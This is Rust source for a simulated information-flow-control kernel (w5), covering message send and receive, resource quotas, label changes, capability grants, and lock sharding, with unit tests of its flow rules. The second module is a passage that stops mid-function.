        if let Err(e) = flow {
            inner.stats.sends_dropped += 1;
            drop(inner);
            if let Some(s) = trace_span.as_mut() {
                s.add_secrecy(&s_pair.secrecy.to_obs());
            }
            // The drop itself is sender-labeled data: who tried to reach whom
            // is only visible to viewers cleared for the sender's secrecy.
            w5_obs::record(
                &s_pair.secrecy.to_obs(),
                w5_obs::EventKind::IpcSend {
                    from: from.0,
                    to: to.0,
                    bytes: payload.len() as u64,
                    delivered: false,
                },
            );
            return Err(e.into());
        }

        // Charge the sender's network/IPC budget.
        let size = payload.len() as u64;
        {
            let p = inner.procs.get_mut(&from).expect("sender checked above");
            p.container.charge_network(size)?;
        }
        let obs_secrecy = s_pair.secrecy.to_obs();
        let msg = Message { from, payload, labels: s_labels, grant };
        let q = inner.procs.get_mut(&to).expect("receiver checked above");
        q.mailbox.push_back(msg);
        if q.state == ProcessState::Blocked {
            q.state = ProcessState::Runnable;
        }
        drop(inner);
        if let Some(s) = trace_span.as_mut() {
            s.add_secrecy(&obs_secrecy);
        }
        w5_obs::record(
            &obs_secrecy,
            w5_obs::EventKind::IpcSend { from: from.0, to: to.0, bytes: size, delivered: true },
        );
        Ok(())
    }

    /// Dequeue the next message for `pid`, merging any capability grant into
    /// the receiver's private bag. Returns `None` (and blocks the process)
    /// when the mailbox is empty.
    pub fn recv(&self, pid: ProcessId) -> KernelResult<Option<Message>> {
        let mut inner = self.inner.lock();
        let p = inner
            .procs
            .get_mut(&pid)
            .ok_or(KernelError::NoSuchProcess(pid))?;
        if p.state == ProcessState::Dead {
            return Err(KernelError::ProcessDead(pid));
        }
        match p.mailbox.pop_front() {
            Some(msg) => {
                p.caps.extend(&msg.grant);
                drop(inner);
                w5_obs::record(
                    &msg.labels.secrecy.to_obs(),
                    w5_obs::EventKind::IpcRecv { pid: pid.0, bytes: msg.payload.len() as u64 },
                );
                Ok(Some(msg))
            }
            None => {
                p.state = ProcessState::Blocked;
                Ok(None)
            }
        }
    }

    /// Charge a resource against a process's container.
    pub fn charge(&self, pid: ProcessId, kind: ResourceKind, amount: u64) -> KernelResult<()> {
        let mut inner = self.inner.lock();
        let p = inner
            .procs
            .get_mut(&pid)
            .ok_or(KernelError::NoSuchProcess(pid))?;
        let res = match kind {
            ResourceKind::Cpu => p.container.charge_cpu(amount),
            ResourceKind::Memory => p.container.charge_memory(amount),
            ResourceKind::Disk => p.container.charge_disk(amount),
            ResourceKind::Network => p.container.charge_network(amount),
        };
        res.map_err(Into::into)
    }

    /// Release previously charged memory.
    pub fn release_memory(&self, pid: ProcessId, amount: u64) -> KernelResult<()> {
        let mut inner = self.inner.lock();
        let p = inner
            .procs
            .get_mut(&pid)
            .ok_or(KernelError::NoSuchProcess(pid))?;
        p.container.release_memory(amount);
        Ok(())
    }

    /// Resource usage snapshot for a process.
    pub fn usage(&self, pid: ProcessId) -> KernelResult<ResourceUsage> {
        let inner = self.inner.lock();
        inner
            .procs
            .get(&pid)
            .map(|p| p.container.usage())
            .ok_or(KernelError::NoSuchProcess(pid))
    }

    /// CPU tokens remaining this epoch for a process.
    pub fn cpu_tokens(&self, pid: ProcessId) -> KernelResult<u64> {
        let inner = self.inner.lock();
        inner
            .procs
            .get(&pid)
            .map(|p| p.container.cpu_tokens())
            .ok_or(KernelError::NoSuchProcess(pid))
    }

    /// Refill every live process's CPU bucket — the scheduler epoch boundary.
    pub fn refill_epoch(&self) {
        let mut inner = self.inner.lock();
        for p in inner.procs.values_mut() {
            if p.state != ProcessState::Dead {
                p.container.refill_epoch();
            }
        }
    }

    /// Terminate a process. Its mailbox is discarded and further syscalls
    /// fail with [`KernelError::ProcessDead`].
    pub fn exit(&self, pid: ProcessId) -> KernelResult<()> {
        let mut inner = self.inner.lock();
        let p = inner
            .procs
            .get_mut(&pid)
            .ok_or(KernelError::NoSuchProcess(pid))?;
        p.state = ProcessState::Dead;
        p.mailbox.clear();
        Ok(())
    }

    /// Remove a dead process from the table entirely (platform GC).
    pub fn reap(&self, pid: ProcessId) -> KernelResult<()> {
        let mut inner = self.inner.lock();
        match inner.procs.get(&pid) {
            Some(p) if p.state == ProcessState::Dead => {
                inner.procs.remove(&pid);
                Ok(())
            }
            Some(_) => Err(KernelError::ProcessDead(pid)), // still alive: refuse
            None => Err(KernelError::NoSuchProcess(pid)),
        }
    }

    /// Number of live (non-dead) processes.
    pub fn live_processes(&self) -> usize {
        self.inner
            .lock()
            .procs
            .values()
            .filter(|p| p.state != ProcessState::Dead)
            .count()
    }

    /// Flow-decision counters.
    pub fn stats(&self) -> KernelStats {
        self.inner.lock().stats
    }

    /// Convenience used throughout the platform: can data labeled `data`
    /// currently be read by process `pid` (with its effective caps), and if
    /// so, raise the process's labels accordingly.
    pub fn taint_for_read(&self, pid: ProcessId, data: &LabelPair) -> KernelResult<()> {
        let data_pair = data.interned();
        let mut inner = self.inner.lock();
        let registry = Arc::clone(&self.registry);
        let p = inner
            .procs
            .get_mut(&pid)
            .ok_or(KernelError::NoSuchProcess(pid))?;
        if p.state == ProcessState::Dead {
            return Err(KernelError::ProcessDead(pid));
        }
        // Fast path: already tainted at least as high as the data and the
        // data vouches every claim the process holds — `labels_for_read`
        // would return `Allowed` without consulting capabilities, so the
        // effective-bag union is skipped. (Ledger parity: the slow path
        // counts one "read" check.)
        if w5_difc::intern::subset(data_pair.secrecy, p.pair.secrecy)
            && w5_difc::intern::subset(p.pair.integrity, data_pair.integrity)
        {
            drop(inner);
            w5_obs::count_check("read", true, &data_pair.secrecy.to_obs());
            return Ok(());
        }
        let eff = registry.effective(&p.caps);
        match rules::labels_for_read(&p.labels, &eff, data) {
            rules::FlowCheck::Allowed => Ok(()),
            rules::FlowCheck::AllowedWithChange { new_secrecy, new_integrity } => {
                p.set_labels(LabelPair::new(new_secrecy, new_integrity));
                Ok(())
            }
            rules::FlowCheck::Denied(e) => Err(e.into()),
        }
    }

    /// Would a write by `pid` to an object labeled `obj` be admissible?
    pub fn check_write(&self, pid: ProcessId, obj: &LabelPair) -> KernelResult<()> {
        let inner = self.inner.lock();
        let p = inner
            .procs
            .get(&pid)
            .ok_or(KernelError::NoSuchProcess(pid))?;
        let eff = self.registry.effective(&p.caps);
        match rules::labels_for_write(&p.labels, &eff, obj) {
            rules::FlowCheck::Denied(e) => Err(e.into()),
            _ => Ok(()),
        }
    }

    /// Does `pid` effectively hold the capability?
    pub fn holds(&self, pid: ProcessId, cap: Capability) -> KernelResult<bool> {
        let inner = self.inner.lock();
        let p = inner
            .procs
            .get(&pid)
            .ok_or(KernelError::NoSuchProcess(pid))?;
        Ok(self.registry.effectively_holds(&p.caps, cap))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use w5_difc::Label;

    fn kernel() -> Kernel {
        Kernel::new(Arc::new(TagRegistry::new()))
    }

    fn mk(k: &Kernel, name: &str) -> ProcessId {
        k.create_process(name, LabelPair::public(), CapSet::empty(), ResourceLimits::unlimited())
    }

    #[test]
    fn create_and_info() {
        let k = kernel();
        let pid = mk(&k, "a");
        let info = k.process_info(pid).unwrap();
        assert_eq!(info.name, "a");
        assert_eq!(info.state, ProcessState::Runnable);
        assert_eq!(info.mailbox_len, 0);
        assert_eq!(k.live_processes(), 1);
    }

    #[test]
    fn send_recv_roundtrip() {
        let k = kernel();
        let a = mk(&k, "a");
        let b = mk(&k, "b");
        let d = k.send(a, b, Bytes::from_static(b"hi"), CapSet::empty()).unwrap();
        assert_eq!(d, Delivery::Delivered);
        let msg = k.recv(b).unwrap().unwrap();
        assert_eq!(&msg.payload[..], b"hi");
        assert_eq!(msg.from, a);
        // Empty mailbox blocks.
        assert!(k.recv(b).unwrap().is_none());
        assert_eq!(k.process_info(b).unwrap().state, ProcessState::Blocked);
        // A new message unblocks.
        k.send(a, b, Bytes::from_static(b"x"), CapSet::empty()).unwrap();
        assert_eq!(k.process_info(b).unwrap().state, ProcessState::Runnable);
    }

    #[test]
    fn tainted_sender_is_silently_dropped() {
        let k = kernel();
        let a = mk(&k, "tainted");
        let b = mk(&k, "clean");
        let e = k.create_tag(a, TagKind::ExportProtect, "export:bob").unwrap();
        // a raises its secrecy (t+ is global).
        k.change_labels(a, LabelPair::new(Label::singleton(e), Label::empty()))
            .unwrap();
        // a created the tag so it holds e-; drop it to model an untrusted app
        // that merely read Bob's data.
        let mut minus = CapSet::empty();
        minus.insert(Capability::minus(e));
        k.drop_caps(a, &minus).unwrap();

        let d = k.send(a, b, Bytes::from_static(b"secret"), CapSet::empty()).unwrap();
        assert_eq!(d, Delivery::Dropped, "flow to unlabeled receiver must drop");
        assert!(k.recv(b).unwrap().is_none());
        assert_eq!(k.stats().sends_dropped, 1);

        // Strict variant surfaces the denial (trusted callers only).
        let err = k
            .send_strict(a, b, Bytes::from_static(b"secret"), CapSet::empty())
            .unwrap_err();
        assert!(matches!(err, KernelError::Difc(DifcError::SecrecyViolation { .. })));
    }

    #[test]
    fn receiver_with_plus_accepts_high_secrecy() {
        let k = kernel();
        let owner = mk(&k, "owner");
        let a = mk(&k, "a");
        let b = mk(&k, "b");
        let e = k.create_tag(owner, TagKind::ReadProtect, "read:x").unwrap();
        // a is granted read access (e+) and raises to hold the data; it has
        // no e-, so it cannot declassify toward unlabeled receivers.
        let mut aplus = CapSet::empty();
        aplus.insert(Capability::plus(e));
        k.grant_caps(a, &aplus).unwrap();
        k.change_labels(a, LabelPair::new(Label::singleton(e), Label::empty()))
            .unwrap();
        // b cannot receive while unlabeled: delivery is checked raw.
        assert_eq!(
            k.send(a, b, Bytes::from_static(b"s"), CapSet::empty()).unwrap(),
            Delivery::Dropped
        );
        // b cannot even raise its label: ReadProtect keeps t+ private.
        let high = LabelPair::new(Label::singleton(e), Label::empty());
        assert!(k.change_labels(b, high.clone()).is_err());
        // Grant b the t+, let it raise, and delivery succeeds.
        let mut plus = CapSet::empty();
        plus.insert(Capability::plus(e));
        k.grant_caps(b, &plus).unwrap();
        k.change_labels(b, high).unwrap();
        assert_eq!(
            k.send(a, b, Bytes::from_static(b"s"), CapSet::empty()).unwrap(),
            Delivery::Delivered
        );
    }

    #[test]
    fn grant_requires_holding() {
        let k = kernel();
        let a = mk(&k, "a");
        let b = mk(&k, "b");
        let t = Tag::from_raw(1234); // never allocated to a
        let mut g = CapSet::empty();
        g.insert(Capability::minus(t));
        let err = k.send(a, b, Bytes::new(), g).unwrap_err();
        assert_eq!(err, KernelError::GrantNotHeld);
    }

    #[test]
    fn caps_transfer_over_ipc() {
        let k = kernel();
        let a = mk(&k, "user");
        let b = mk(&k, "declassifier");
        let e = k.create_tag(a, TagKind::ExportProtect, "export:u").unwrap();
        let mut g = CapSet::empty();
        g.insert(Capability::minus(e));
        k.send(a, b, Bytes::from_static(b"here is my export privilege"), g)
            .unwrap();
        k.recv(b).unwrap().unwrap();
        assert!(k.caps(b).unwrap().has_minus(e), "grant merged on recv");
    }

    #[test]
    fn spawn_inherits_within_rules() {
        let k = kernel();
        let a = mk(&k, "parent");
        let e = k.create_tag(a, TagKind::ExportProtect, "export:u").unwrap();
        // Child at S={e}: fine, t+ is global.
        let child = k
            .spawn(
                a,
                SpawnSpec {
                    name: "child".into(),
                    labels: LabelPair::new(Label::singleton(e), Label::empty()),
                    grant: CapSet::empty(),
                    limits: ResourceLimits::sandbox_default(),
                },
            )
            .unwrap();
        assert_eq!(k.process_info(child).unwrap().parent, Some(a));

        // Child granted caps the parent holds: fine.
        let mut g = CapSet::empty();
        g.insert(Capability::minus(e));
        assert!(k
            .spawn(
                a,
                SpawnSpec {
                    name: "c2".into(),
                    labels: LabelPair::public(),
                    grant: g.clone(),
                    limits: ResourceLimits::unlimited(),
                }
            )
            .is_ok());

        // A *tainted* parent cannot spawn an untainted child without e-.
        k.change_labels(a, LabelPair::new(Label::singleton(e), Label::empty()))
            .unwrap();
        k.drop_caps(a, &g).unwrap();
        let err = k
            .spawn(
                a,
                SpawnSpec {
                    name: "laundry".into(),
                    labels: LabelPair::public(),
                    grant: CapSet::empty(),
                    limits: ResourceLimits::unlimited(),
                },
            )
            .unwrap_err();
        assert!(matches!(err, KernelError::Difc(_)), "spawn is not a declassification channel");
    }

    #[test]
    fn quotas_enforced_on_send() {
        let k = kernel();
        let a = k.create_process(
            "limited",
            LabelPair::public(),
            CapSet::empty(),
            ResourceLimits { network_bytes: 10, ..ResourceLimits::unlimited() },
        );
        let b = mk(&k, "sink");
        assert!(k.send(a, b, Bytes::from(vec![0u8; 10]), CapSet::empty()).is_ok());
        let err = k.send(a, b, Bytes::from(vec![0u8; 1]), CapSet::empty()).unwrap_err();
        assert!(matches!(err, KernelError::Quota(_)), "quota errors are not silent: {err:?}");
    }

    #[test]
    fn exit_and_reap() {
        let k = kernel();
        let a = mk(&k, "a");
        let b = mk(&k, "b");
        k.exit(b).unwrap();
        assert!(matches!(
            k.send(a, b, Bytes::new(), CapSet::empty()),
            Err(KernelError::ProcessDead(_))
        ));
        assert!(matches!(k.reap(a), Err(KernelError::ProcessDead(_))), "cannot reap live process");
        k.reap(b).unwrap();
        assert!(matches!(
            k.process_info(b),
            Err(KernelError::NoSuchProcess(_))
        ));
        assert_eq!(k.live_processes(), 1);
    }

    #[test]
    fn taint_for_read_and_check_write() {
        let k = kernel();
        let app = mk(&k, "app");
        let owner = mk(&k, "owner");
        let e = k.create_tag(owner, TagKind::ExportProtect, "export:o").unwrap();
        let data = LabelPair::new(Label::singleton(e), Label::empty());

        // Reading taints.
        k.taint_for_read(app, &data).unwrap();
        assert_eq!(k.labels(app).unwrap().secrecy, Label::singleton(e));
        // Tainted app cannot write public objects.
        assert!(k.check_write(app, &LabelPair::public()).is_err());
        // But can write objects at the same secrecy.
        assert!(k.check_write(app, &data).is_ok());
        // The owner (holding e-) can write public objects even after reading.
        k.taint_for_read(owner, &data).unwrap();
        assert!(k.check_write(owner, &LabelPair::public()).is_ok());
    }

    #[test]
    fn epoch_refill() {
        let k = kernel();
        let a = k.create_process(
            "cpu-bound",
            LabelPair::public(),
            CapSet::empty(),
            ResourceLimits { cpu_per_epoch: 5, ..ResourceLimits::unlimited() },
        );
        k.charge(a, ResourceKind::Cpu, 5).unwrap();
        assert!(k.charge(a, ResourceKind::Cpu, 1).is_err());
        k.refill_epoch();
        assert!(k.charge(a, ResourceKind::Cpu, 1).is_ok());
        assert_eq!(k.cpu_tokens(a).unwrap(), 4);
    }
}
