//! The kernel proper: process table and system-call surface.
//!
//! All flow enforcement funnels through here. The platform (`w5-platform`)
//! is the only trusted caller; applications reach the kernel exclusively
//! through the platform's API object, which passes their [`ProcessId`]
//! along so every operation is checked against *their* labels, not the
//! platform's.
//!
//! # Sharding
//!
//! Process state is striped across N lock shards (N a power of two,
//! default [`DEFAULT_SHARDS`]); a process lives in shard
//! `pid & (N - 1)`. Every syscall that touches one process locks only
//! that process's shard, so syscalls against different shards proceed in
//! parallel on different cores. The flow-check fast path reads interned
//! labels ([`w5_difc::intern`]) whose subset cache is lock-free, so the
//! dominant send shape costs two shard locks and zero further
//! synchronization.
//!
//! Cross-process sends need the sender's and receiver's shards at once.
//! The single lock-ordering rule that keeps the kernel deadlock-free:
//! **two shard locks are only ever held together when acquired in
//! ascending shard-index order** (see `lock_pair`). `spawn` respects it
//! by never holding parent and child shards simultaneously — the child
//! pid is invisible to every other thread until inserted, so the parent
//! guard is dropped first and the spawn linearizes at validation time.
//!
//! Flow-decision counters ([`KernelStats`]) are relaxed atomics: exact
//! totals, no ordering claims between counters — same observability as
//! the old `stats` struct behind the global lock, minus the lock.
//!
//! The pre-sharding single-lock kernel survives verbatim as
//! [`crate::reference::ReferenceKernel`]; `w5-sim`'s differential
//! concurrency oracle replays identical seeded schedules against both
//! and asserts identical observable state.

use crate::ids::ProcessId;
use crate::message::Message;
use crate::process::{Process, ProcessInfo, ProcessState};
use crate::resource::{QuotaExceeded, ResourceContainer, ResourceKind, ResourceLimits, ResourceUsage};
use bytes::Bytes;
use w5_sync::{lockdep, Mutex, MutexGuard};
use std::collections::HashMap;
use std::fmt;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;
use w5_difc::{
    rules, CapSet, Capability, DifcError, LabelPair, Tag, TagKind, TagRegistry,
};

/// Errors surfaced by kernel syscalls.
///
/// Note that [`Kernel::send`] deliberately does *not* surface
/// [`KernelError::Difc`] — see the crate docs on covert-channel hygiene.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum KernelError {
    /// The process id is unknown.
    NoSuchProcess(ProcessId),
    /// The process has exited.
    ProcessDead(ProcessId),
    /// A flow rule refused the operation.
    Difc(DifcError),
    /// A resource quota refused the operation.
    Quota(QuotaExceeded),
    /// A capability grant included capabilities the granter does not hold.
    GrantNotHeld,
    /// A deterministic fault-injection site fired (`w5-chaos`). Transient:
    /// the operation had no effect and may be retried.
    Injected(&'static str),
}

impl fmt::Display for KernelError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            KernelError::NoSuchProcess(p) => write!(f, "no such process {p}"),
            KernelError::ProcessDead(p) => write!(f, "process {p} has exited"),
            KernelError::Difc(e) => write!(f, "flow control: {e}"),
            KernelError::Quota(e) => write!(f, "resource: {e}"),
            KernelError::GrantNotHeld => write!(f, "grant includes capabilities not held"),
            KernelError::Injected(site) => write!(f, "injected fault at {site}"),
        }
    }
}

impl std::error::Error for KernelError {}

impl From<DifcError> for KernelError {
    fn from(e: DifcError) -> Self {
        KernelError::Difc(e)
    }
}

impl From<QuotaExceeded> for KernelError {
    fn from(e: QuotaExceeded) -> Self {
        KernelError::Quota(e)
    }
}

/// Result alias for kernel syscalls.
pub type KernelResult<T> = Result<T, KernelError>;

/// Outcome of a (non-strict) send.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Delivery {
    /// The message was queued at the receiver.
    Delivered,
    /// The message was silently dropped (flow violation). The *sender* is
    /// never told which; this value is only observable by trusted code that
    /// also owns the receiver.
    Dropped,
}

/// Parameters for [`Kernel::spawn`].
#[derive(Clone, Debug)]
pub struct SpawnSpec {
    /// Audit name for the child.
    pub name: String,
    /// Labels the child starts with. Must be safely reachable from the
    /// parent's labels given the parent's effective capabilities.
    pub labels: LabelPair,
    /// Capabilities granted to the child. Must be a subset of the parent's
    /// effective capabilities.
    pub grant: CapSet,
    /// Resource limits for the child's container.
    pub limits: ResourceLimits,
}

/// Flow-decision counters, for the evaluation harnesses. Serializable
/// so lockdep reports can name the operation mix active when an
/// acquisition edge was recorded (`w5_obs::Snapshot` on [`Kernel`]).
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
pub struct KernelStats {
    /// Messages checked for delivery.
    pub sends_checked: u64,
    /// Messages dropped by flow rules.
    pub sends_dropped: u64,
    /// Label changes attempted.
    pub label_changes: u64,
    /// Label changes refused.
    pub label_changes_denied: u64,
}

/// Default shard count for [`Kernel::new`]. Power of two; enough stripes
/// that 8 worker threads rarely collide, small enough that
/// `live_processes`-style sweeps stay cheap.
pub const DEFAULT_SHARDS: usize = 16;

type ProcMap = HashMap<ProcessId, Process>;

struct Shard {
    procs: Mutex<ProcMap>,
}

struct Shared {
    registry: Arc<TagRegistry>,
    shards: Box<[Shard]>,
    /// `shards.len() - 1`; shard count is always a power of two.
    shard_mask: usize,
    next_pid: AtomicU64,
    sends_checked: AtomicU64,
    sends_dropped: AtomicU64,
    label_changes: AtomicU64,
    label_changes_denied: AtomicU64,
}

/// Both shards involved in a cross-process operation, acquired in
/// ascending shard-index order (the kernel-wide lock-ordering rule).
/// For a same-shard pair only one guard exists and both accessors
/// return it.
struct TwoShards<'a> {
    first: MutexGuard<'a, ProcMap>,
    second: Option<MutexGuard<'a, ProcMap>>,
    sender_is_first: bool,
}

impl TwoShards<'_> {
    fn sender(&mut self) -> &mut ProcMap {
        if self.sender_is_first {
            &mut self.first
        } else {
            self.second.as_mut().expect("second guard present when sender is not first")
        }
    }

    fn receiver(&mut self) -> &mut ProcMap {
        if self.sender_is_first {
            match self.second.as_mut() {
                Some(g) => g,
                None => &mut self.first, // same shard
            }
        } else {
            &mut self.first
        }
    }
}

/// The simulated DIFC kernel, sharded for multi-core scaling. Cheap to
/// share: `Kernel` is `Clone` and all clones view the same machine.
#[derive(Clone)]
pub struct Kernel {
    shared: Arc<Shared>,
}

impl Kernel {
    /// A fresh machine sharing the given tag registry, with
    /// [`DEFAULT_SHARDS`] lock shards.
    pub fn new(registry: Arc<TagRegistry>) -> Kernel {
        Kernel::with_shards(DEFAULT_SHARDS, registry)
    }

    /// A fresh machine with at least `shards` lock shards (rounded up to
    /// a power of two, minimum 1). `with_shards(1, ..)` degenerates to
    /// the single-lock kernel — useful for pinning down shard-related
    /// bugs.
    pub fn with_shards(shards: usize, registry: Arc<TagRegistry>) -> Kernel {
        let n = shards.max(1).next_power_of_two();
        let shards: Box<[Shard]> = (0..n)
            .map(|i| Shard { procs: Mutex::with_index("kernel.shard", i as u32, HashMap::new()) })
            .collect();
        Kernel {
            shared: Arc::new(Shared {
                registry,
                shards,
                shard_mask: n - 1,
                next_pid: AtomicU64::new(1),
                sends_checked: AtomicU64::new(0),
                sends_dropped: AtomicU64::new(0),
                label_changes: AtomicU64::new(0),
                label_changes_denied: AtomicU64::new(0),
            }),
        }
    }

    /// Number of lock shards (always a power of two).
    pub fn shard_count(&self) -> usize {
        self.shared.shards.len()
    }

    #[inline]
    fn shard_ix(&self, pid: ProcessId) -> usize {
        pid.0 as usize & self.shared.shard_mask
    }

    #[inline]
    fn shard(&self, pid: ProcessId) -> MutexGuard<'_, ProcMap> {
        self.shared.shards[self.shard_ix(pid)].procs.lock()
    }

    /// Lock the shards of `from` and `to` in ascending shard-index order.
    fn lock_pair(&self, from: ProcessId, to: ProcessId) -> TwoShards<'_> {
        let fi = self.shard_ix(from);
        let ti = self.shard_ix(to);
        if fi == ti {
            TwoShards {
                first: self.shared.shards[fi].procs.lock(),
                second: None,
                sender_is_first: true,
            }
        } else if fi < ti {
            let first = self.shared.shards[fi].procs.lock();
            let second = Some(self.shared.shards[ti].procs.lock());
            TwoShards { first, second, sender_is_first: true }
        } else {
            let first = self.shared.shards[ti].procs.lock();
            let second = Some(self.shared.shards[fi].procs.lock());
            TwoShards { first, second, sender_is_first: false }
        }
    }

    /// The shared tag registry.
    pub fn registry(&self) -> &Arc<TagRegistry> {
        &self.shared.registry
    }

    /// Trusted process creation (used by the platform for launchers,
    /// exporters and app instances). No reachability check: the platform
    /// decides initial labels per user policy.
    pub fn create_process(
        &self,
        name: &str,
        labels: LabelPair,
        caps: CapSet,
        limits: ResourceLimits,
    ) -> ProcessId {
        let id = ProcessId(self.shared.next_pid.fetch_add(1, Ordering::Relaxed));
        let pair = labels.interned();
        let obs_secrecy = pair.secrecy.to_obs();
        // Child span inside an active sampled trace (e.g. an app launch
        // under `platform.invoke`); a single thread-local read otherwise.
        let mut trace_span = w5_obs::span_if_active(
            "kernel.create_process",
            w5_obs::Layer::Kernel,
            &w5_obs::ObsLabel::empty(),
        );
        if let Some(s) = trace_span.as_mut() {
            s.add_secrecy(&obs_secrecy);
        }
        let proc = Process {
            id,
            name: name.to_string(),
            labels,
            pair,
            caps,
            state: ProcessState::Runnable,
            mailbox: Default::default(),
            container: ResourceContainer::new(limits),
            parent: None,
        };
        self.shard(id).insert(id, proc);
        w5_obs::record(
            &obs_secrecy,
            w5_obs::EventKind::ProcSpawn { pid: id.0, parent: 0, name: name.to_string() },
        );
        id
    }

    /// Spawn a child from an existing process, enforcing Flume's spawn
    /// rules: child labels must be a safe change away from the parent's,
    /// and the grant must be covered by the parent's effective caps.
    pub fn spawn(&self, parent: ProcessId, spec: SpawnSpec) -> KernelResult<ProcessId> {
        // Fault injection happens before any state changes: a failed spawn
        // must leave no trace of the child.
        if w5_chaos::inject(w5_chaos::Site::KernelSpawn).is_some() {
            return Err(KernelError::Injected(w5_chaos::Site::KernelSpawn.as_str()));
        }
        // Child span only inside an already-sampled trace: outside one this
        // is a single thread-local read. The label (the child's secrecy) is
        // unioned in below, once it is interned anyway.
        let mut trace_span = w5_obs::span_if_active(
            "kernel.spawn",
            w5_obs::Layer::Kernel,
            &w5_obs::ObsLabel::empty(),
        );
        let parent_ix = self.shard_ix(parent);
        let mut pguard = self.shared.shards[parent_ix].procs.lock();
        let p = pguard
            .get(&parent)
            .ok_or(KernelError::NoSuchProcess(parent))?;
        if p.state == ProcessState::Dead {
            return Err(KernelError::ProcessDead(parent));
        }
        // Fast path: a child at the parent's exact labels with no grant
        // (the dominant spawn shape) is trivially safe — `safe_change` of
        // a label to itself always passes — so the effective-bag union
        // and capability algebra are skipped entirely.
        let spec_pair = spec.labels.interned();
        if spec_pair != p.pair || !spec.grant.is_empty() {
            let eff = self.shared.registry.effective(&p.caps);
            // `safe_change` counts its check in the flow ledger while the
            // parent shard guard is held; intentional (the labels under
            // validation live inside the guarded table).
            let _obs_permit = lockdep::allow_held("obs.ledger");
            rules::safe_change(&p.labels.secrecy, &spec.labels.secrecy, &eff)?;
            rules::safe_change(&p.labels.integrity, &spec.labels.integrity, &eff)?;
            if !spec.grant.is_subset(&eff) {
                return Err(KernelError::GrantNotHeld);
            }
        }
        // Pid allocated only *after* validation, so denied spawns do not
        // perturb the pid stream (the differential oracle compares pid
        // sequences against the reference kernel).
        let id = ProcessId(self.shared.next_pid.fetch_add(1, Ordering::Relaxed));
        let obs_secrecy = spec_pair.secrecy.to_obs();
        let child_name = spec.name.clone();
        let child = Process {
            id,
            name: spec.name,
            labels: spec.labels,
            pair: spec_pair,
            caps: spec.grant,
            state: ProcessState::Runnable,
            mailbox: Default::default(),
            container: ResourceContainer::new(spec.limits),
            parent: Some(parent),
        };
        let child_ix = self.shard_ix(id);
        if child_ix == parent_ix {
            pguard.insert(id, child);
            drop(pguard);
        } else {
            // Lock-ordering rule: two shard locks are only ever held
            // together via `lock_pair`'s ascending order. Rather than
            // sort parent/child here, drop the parent guard first — the
            // fresh pid is invisible to every other thread until the
            // insert below, so the spawn linearizes at validation and no
            // intermediate state can be observed.
            drop(pguard);
            self.shared.shards[child_ix].procs.lock().insert(id, child);
        }
        if let Some(s) = trace_span.as_mut() {
            s.add_secrecy(&obs_secrecy);
        }
        w5_obs::record(
            &obs_secrecy,
            w5_obs::EventKind::ProcSpawn { pid: id.0, parent: parent.0, name: child_name },
        );
        Ok(id)
    }

    /// Snapshot of a process's public metadata.
    pub fn process_info(&self, pid: ProcessId) -> KernelResult<ProcessInfo> {
        self.shard(pid)
            .get(&pid)
            .map(Process::info)
            .ok_or(KernelError::NoSuchProcess(pid))
    }

    /// Current labels of a process.
    pub fn labels(&self, pid: ProcessId) -> KernelResult<LabelPair> {
        self.shard(pid)
            .get(&pid)
            .map(|p| p.labels.clone())
            .ok_or(KernelError::NoSuchProcess(pid))
    }

    /// The process's *private* capability bag.
    pub fn caps(&self, pid: ProcessId) -> KernelResult<CapSet> {
        self.shard(pid)
            .get(&pid)
            .map(|p| p.caps.clone())
            .ok_or(KernelError::NoSuchProcess(pid))
    }

    /// The process's effective capability set (private ∪ global bag).
    pub fn effective_caps(&self, pid: ProcessId) -> KernelResult<CapSet> {
        let caps = self.caps(pid)?;
        Ok(self.shared.registry.effective(&caps))
    }

    /// Create a tag on behalf of a process; the creator capabilities enter
    /// the process's private bag, and the public half enters the global bag.
    pub fn create_tag(&self, pid: ProcessId, kind: TagKind, name: &str) -> KernelResult<Tag> {
        // Allocate outside the process-table lock; the registry has its own.
        let (tag, creator_caps) = self.shared.registry.create_tag(kind, name);
        let mut guard = self.shard(pid);
        let p = guard
            .get_mut(&pid)
            .ok_or(KernelError::NoSuchProcess(pid))?;
        if p.state == ProcessState::Dead {
            return Err(KernelError::ProcessDead(pid));
        }
        p.caps.extend(&creator_caps);
        drop(guard);
        w5_obs::record(
            &w5_obs::ObsLabel::empty(),
            w5_obs::EventKind::TagGrant { pid: pid.0, tag: tag.raw() },
        );
        Ok(tag)
    }

    /// Change a process's own labels, subject to the safe-change rule.
    pub fn change_labels(&self, pid: ProcessId, new: LabelPair) -> KernelResult<()> {
        self.shared.label_changes.fetch_add(1, Ordering::Relaxed);
        let mut guard = self.shard(pid);
        let p = guard
            .get_mut(&pid)
            .ok_or(KernelError::NoSuchProcess(pid))?;
        if p.state == ProcessState::Dead {
            return Err(KernelError::ProcessDead(pid));
        }
        let eff = self.shared.registry.effective(&p.caps);
        // The safe-change checks ledger their verdicts under the shard
        // guard; intentional (see `spawn`).
        let _obs_permit = lockdep::allow_held("obs.ledger");
        let check = rules::safe_change(&p.labels.secrecy, &new.secrecy, &eff)
            .and_then(|()| rules::safe_change(&p.labels.integrity, &new.integrity, &eff));
        match check {
            Ok(()) => {
                p.set_labels(new);
                Ok(())
            }
            Err(e) => {
                self.shared.label_changes_denied.fetch_add(1, Ordering::Relaxed);
                Err(e.into())
            }
        }
    }

    /// Permanently drop capabilities from a process's private bag
    /// (privilege shedding before running untrusted code).
    pub fn drop_caps(&self, pid: ProcessId, caps: &CapSet) -> KernelResult<()> {
        let mut guard = self.shard(pid);
        let p = guard
            .get_mut(&pid)
            .ok_or(KernelError::NoSuchProcess(pid))?;
        for c in caps.iter() {
            p.caps.remove(c);
        }
        drop(guard);
        w5_obs::record(
            &w5_obs::ObsLabel::empty(),
            w5_obs::EventKind::CapabilityUse {
                pid: pid.0,
                op: "drop".to_string(),
                count: caps.len() as u64,
            },
        );
        Ok(())
    }

    /// Add capabilities to a process's private bag. Trusted (platform)
    /// entry point, used when a user's policy grants a declassifier
    /// privileges over the user's tags.
    pub fn grant_caps(&self, pid: ProcessId, caps: &CapSet) -> KernelResult<()> {
        let mut guard = self.shard(pid);
        let p = guard
            .get_mut(&pid)
            .ok_or(KernelError::NoSuchProcess(pid))?;
